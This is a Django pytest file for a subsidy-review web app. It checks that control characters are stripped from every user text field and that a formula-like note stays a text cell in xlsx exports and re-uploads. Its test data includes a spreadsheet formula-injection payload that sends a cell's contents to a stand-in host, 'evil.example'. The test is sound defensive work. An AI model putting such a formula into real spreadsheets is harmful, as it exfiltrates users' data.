"""Text hygiene (review M1, M2, m12, m16): control and private-use characters pushed through every
text field a user can fill, by page and by API, are cleaned on the way in; every export and
document then answers 200; the unit template writes user text as text (a 情况说明 "=HYPERLINK(…)"
is no formula) and an unchanged re-upload keeps it; exports keep the text exactly."""

from __future__ import annotations

import io
import unicodedata

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from anju.text import clean_text
from anju_web.accounts.models import ApiToken
from anju_web.audit.models import AuditEvent
from anju_web.evidence.models import EvidenceFile
from anju_web.reports import documents
from anju_web.reviews.models import Comment, Judgement, Narrative, ScoreAdjustment
from anju_web.submissions.models import FigureEntry, ItemReturn, ReturnMessage, Status

from .conftest import client_for, stored, unit

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
# Word's Shift+Enter (U+000B), a page break, C0 and C1 controls, private use, a non-character,
# a BOM, the Unicode line separator, and spaces that must survive.
CONTROLS = "".join(chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F))
NASTY = f"无{CONTROLS}违规\ue000\U000F0000\ufffe\ufeff 两 个  空格\u2028末"
FORMULA = '=HYPERLINK("http://evil.example/?d="&C6,"查看说明")'


def _bad(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text
            if (c not in "\n\t" and unicodedata.category(c) in ("Cc", "Co", "Cs"))
            or ord(c) in (0xFEFF, 0xFFFE, 0xFFFF)]


def test_clean_text_keeps_words_and_spaces():
    # six line-breaking controls (U+000B, U+000C, U+001C–U+001E, U+0085) become line feeds
    assert clean_text(NASTY) == "无" + "\n" * 6 + "违规 两 个  空格\n末"
    assert clean_text(FORMULA) == FORMULA


def test_control_characters_through_every_field_and_every_export(cycle):  # noqa: PLR0915 - one story
    sub = unit(cycle, "220122")
    clerk = client_for("clerk-220122")
    # 情况说明 by the page (one with controls, one formula-like) and by the API
    response = clerk.post(f"/submissions/{sub.pk}/save/", {
        "version": sub.version, "note-rental-central_funds": NASTY, "note-rental-county_funds": FORMULA,
        "f-rental-central_funds": stored(sub, "rental", "central_funds"),
        "f-rental-county_funds": stored(sub, "rental", "county_funds"),
    })
    assert response.status_code == 302
    sub.refresh_from_db()
    api = clerk.put(f"/api/submissions/{sub.pk}/figures", {"version": sub.version, "figures": [
        {"program": "rental", "figure": "total_funds", "value": stored(sub, "rental", "total_funds"),
         "explanation": NASTY}]},
        content_type="application/json")
    assert api.status_code == 200, api.content
    # evidence title, API token name
    assert clerk.post(f"/cycles/{cycle.pk}/evidence/upload/", {
        "region": sub.region_id, "title": NASTY, "next": f"/submissions/{sub.pk}/",
        "file": SimpleUploadedFile("台账.pdf", PDF)}).status_code == 302
    assert clerk.post("/accounts/tokens/new/", {"name": NASTY}).status_code == 302
    # submit; the prefecture returns an item with such a reason; the clerk replies with one
    response = clerk.post(f"/submissions/{sub.pk}/submit/")
    sub.refresh_from_db()
    assert sub.status == Status.submitted, [m.message for m in response.wsgi_request._messages]  # type: ignore[attr-defined]
    reviewer = client_for("reviewer-220100")
    reviewer.post(f"/submissions/{sub.pk}/return/", {"return-item-0": "rental:subsidy_paid", "return-reason-0": NASTY})
    sub.refresh_from_db()
    assert sub.status == Status.returned
    item = ItemReturn.objects.get(submission=sub)
    assert clerk.post(f"/returns/{item.pk}/reply/", {"text": NASTY}).status_code in (200, 302)
    # the province judges with such a reason and narrative; the bureau proposes and comments
    evaluator = client_for("evaluator-finance")
    assert evaluator.post(f"/cycles/{cycle.pk}/judgements/renovation/outputs.policies/", {
        "points": "1", "reason": NASTY, "narrative": NASTY, "evidence": NASTY}).status_code == 302
    supervisor = client_for("supervisor")
    supervisor.post(f"/cycles/{cycle.pk}/adjustments/", {"item": "renovation:outputs.policies", "proposed": "0",
                                                         "reason": NASTY})
    supervisor.post(f"/cycles/{cycle.pk}/comments/", {"text": NASTY, "submission": str(sub.pk), "item": ""})
    supervisor.post(f"/cycles/{cycle.pk}/comments/", {"text": NASTY, "item": "renovation:outputs.policies"})

    # Everything stored is clean, spaces kept.
    texts = [
        *FigureEntry.objects.filter(submission=sub).values_list("explanation", flat=True),
        *EvidenceFile.objects.filter(cycle=cycle).values_list("title", flat=True),
        *ApiToken.objects.values_list("name", flat=True),
        *ItemReturn.objects.filter(submission=sub).values_list("reason", flat=True),
        *ReturnMessage.objects.filter(item_return__submission=sub).values_list("text", flat=True),
        *Judgement.objects.filter(cycle=cycle).values_list("reason", flat=True),
        *Narrative.objects.filter(cycle=cycle).values_list("text", flat=True),
        *ScoreAdjustment.objects.filter(cycle=cycle).values_list("reason", flat=True),
        *Comment.objects.filter(cycle=cycle).values_list("text", flat=True),
        *AuditEvent.objects.values_list("new_value", flat=True),
        *AuditEvent.objects.values_list("note", flat=True),
    ]
    assert sum(1 for text in texts if "两 个  空格" in text) >= 10
    assert [t for t in texts if _bad(t)] == []
    judgement = Judgement.objects.get(cycle=cycle, program="renovation", item_path="outputs.policies")
    assert judgement.evidence and not any(_bad(e) for e in judgement.evidence)

    # Every export and every document answers 200.
    assert evaluator.post(f"/cycles/{cycle.pk}/evaluation/run/").status_code == 302
    template = clerk.get(f"/submissions/{sub.pk}/template.xlsx")
    assert template.status_code == 200
    for client in (evaluator, reviewer, clerk):
        for fmt in ("csv", "xlsx"):
            if client is clerk:
                continue  # clerks may not export the log
            assert client.get(f"/audit/export.{fmt}").status_code == 200
    for spec in documents.available():
        response = evaluator.get(f"/cycles/{cycle.pk}/documents/{spec.kind}/")
        assert response.status_code == 200, (spec.kind, response.content[:300])
        assert b"".join(response) if hasattr(response, "streaming_content") else response.content

    # The unit template: user text is a text cell, exactly as stored; never a formula.
    book = openpyxl.load_workbook(io.BytesIO(template.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    formula_cells = [c for c in cells if c.value == FORMULA]
    assert len(formula_cells) == 1 and formula_cells[0].data_type == "s"
    # Uploading the unchanged file (the submission is editable again after the return) keeps the text.
    sub.refresh_from_db()
    fresh = clerk.get(f"/submissions/{sub.pk}/template.xlsx").content
    response = clerk.post(f"/submissions/{sub.pk}/upload/", {"workbook": SimpleUploadedFile("农安县.xlsx", fresh)},
                          follow=True)
    assert "已保存" in response.content.decode(), response.content.decode()[:3000]
    entry = FigureEntry.objects.get(submission=sub, program="rental", figure_id="county_funds")
    assert entry.explanation == FORMULA
    assert not AuditEvent.objects.filter(action="explanation_changed", old_value=FORMULA).exists()

    # The xlsx audit export keeps the text exactly: no visible apostrophe, no lost spaces.
    export = evaluator.get("/audit/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(export.content)).active
    values = {c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert FORMULA in values and "'" + FORMULA not in values
    assert clean_text(NASTY) in values
